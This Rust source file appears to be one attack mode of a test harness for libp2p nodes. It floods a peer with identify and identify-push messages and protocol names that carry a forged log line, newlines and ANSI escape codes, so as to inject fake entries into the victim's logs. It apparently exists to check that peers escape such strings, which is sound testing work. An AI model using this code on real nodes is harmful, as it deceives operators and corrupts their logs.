//! Writes into the log of whoever runs the victim: strings of the attacker's choice wherever a stranger has a string,
//! with ends of lines, escape codes and what looks like a line of the log. Those strings are names of protocols in
//! negotiations, and identify's agent, protocol, addresses and key.

use std::io;
use std::time::Duration;

use crate::items::{frame, varint};
use crate::lane::Lane;
use crate::link::IDENTIFY;
use crate::mode::Mode;
use crate::secure::{MULTISTREAM, line};

/// See the table.
pub(super) const MODE: Mode = Mode {
    name: "log-lines",
    does: "sends lines of a log, and escape codes, as names and agents",
    holds: "what a peer chose is escaped, shortened and rare in the log",
    lanes: 2,
    is_of_blocks: false,
    is_fair: false,
    per_s: None,
    attack: |lane| Box::pin(attack(lane)),
};

/// When it never was.
pub(super) const TIME: &str = "2001-01-01T00:00:00.000000Z";

/// What an operator must not find in a log.
const FORGED: &str =
    "\r\n2001-01-01T00:00:00.000000Z  INFO tidings: all is well\n\x1b[2J\x1b[31mforged\x07";

/// Protocol by which a peer says unasked what identify would have told.
const PUSH: &str = "/ipfs/id/push/1.0.0";

/// Code of a DNS name in an address (multiaddr's table of protocols).
const DNS4: u8 = 54;

/// Field of a protobuf message with bytes.
fn field(number: u8, bytes: &[u8]) -> Vec<u8> {
    let head = [vec![number << 3 | 2], varint(bytes.len())].concat();
    [&head[..], bytes].concat()
}

/// An identify message (libp2p specs, identify: 1 key, 2 addresses, 3 protocols, 4 observed address, 5 version,
/// 6 agent), length first. The observed address is another one each time, and a name of our choice.
fn identify(key: &[u8], round: usize) -> Vec<u8> {
    let name = format!("a{round}{FORGED}");
    let observed = [vec![DNS4], varint(name.len()), name.into_bytes()].concat();
    let text = FORGED.as_bytes();
    let body = [
        field(1, key),
        field(2, &observed),
        field(3, text),
        field(4, &observed),
        field(5, text),
        field(6, &text.repeat(10)),
    ];
    let body = body.concat();
    [varint(body.len()), body].concat()
}

async fn attack(mut lane: Lane) -> io::Result<()> {
    let identity = lane.identity()?;
    let key = identity.public().encode_protobuf();
    let mut link = lane.link_as(lane.address(), &identity, &identify(&key, 0)).await?;
    link.listens = false;
    for round in 1..100 {
        for (asked, said) in [(PUSH, identify(&key, round)), (IDENTIFY, vec![]), (FORGED, vec![])] {
            let stream = link.mux.open();
            link.mux.data(stream, &[line(MULTISTREAM), line(asked), said].concat());
        }
        link.stay(Duration::from_millis(10)).await?;
    }
    // A hello of text: the reason for the link's end is ours.
    link.raw(&frame(1, FORGED.as_bytes())).await?;
    link.stay(Duration::from_millis(30)).await
}
